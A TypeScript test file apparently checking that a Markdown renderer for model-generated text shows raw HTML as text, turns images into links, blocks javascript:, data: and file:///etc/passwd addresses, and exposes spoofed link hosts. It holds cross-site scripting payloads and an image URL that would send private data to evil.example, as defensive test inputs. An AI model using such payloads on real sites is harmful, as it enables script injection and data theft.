import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { Markdown, safeHref } from './markdown.tsx';

const file = resolve(import.meta.dirname, '../../../tests/security/data/naughty-strings.json');
const NAUGHTY = z.array(z.string()).parse(JSON.parse(readFileSync(file, 'utf8')));
const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('Markdown from a model', () => {
  it('renders what people write', () => {
    const html = render('# Report\n\nA **bold** `word`.\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(html).toContain('<h2>Report</h2>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<ol start="1">');
    expect(html).toContain('<td>2</td>');
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'text <b onclick="x()">bold</b>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg/onload=alert(1)>',
  ])('shows raw HTML as text: %s', (text) => {
    expect(render(text)).not.toMatch(/<(script|img|b|iframe|svg)\b/);
  });

  it('turns an image into a link, so that nothing is fetched without a click', () => {
    const html = render('![secret](https://evil.example/?q=private) ![ref][r]\n\n[r]: https://evil.example/2');
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/?q=private"');
    expect(html).toContain('image: secret');
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '/api/logout',
    'JaVaScRiPt:alert(1)',
    'file:///etc/passwd',
  ])('never links to %s', (href) => {
    expect(safeHref(href)).toBeUndefined();
    expect(render(`[x](${href})`)).not.toContain('href');
  });

  it('opens links in a new page that learns nothing of ours', () => {
    expect(render('[x](https://a.example/)')).toContain('rel="noopener noreferrer nofollow"');
  });

  it('shows where a link goes, whatever its text says', () => {
    expect(render('[https://good.example](https://evil.example/x)')).toContain('(evil.example)');
    expect(render('[x](https://good.example@evil.example/)')).toContain('(evil.example)');
    expect(render('[x](https://gооd.example/)')).toContain('(xn--');
    expect(render('![x](https://evil.example/p.png)')).toContain('(evil.example)');
    expect(render('<https://a.example>')).not.toContain('link-host');
    expect(render('[a.example](https://a.example/x)')).not.toContain('link-host');
  });

  it.each(NAUGHTY)('makes no element and no address of %j', (text) => {
    const html = render(text);
    expect(html).not.toMatch(/<(?:script|img|svg|iframe|title|plaintext|style|object|embed)\b/i);
    expect(html).not.toMatch(/href="(?!https?:|mailto:)/i);
  });

  it('keeps half of a document, as it streams, harmless', () => {
    const whole = 'Look: [a](https://a.example/) and ```js\ncode <script>\n```\n| a |\n|---|\n| 1 |';
    for (let length = 0; length <= whole.length; length += 1)
      expect(render(whole.slice(0, length))).not.toContain('<script');
  });
});
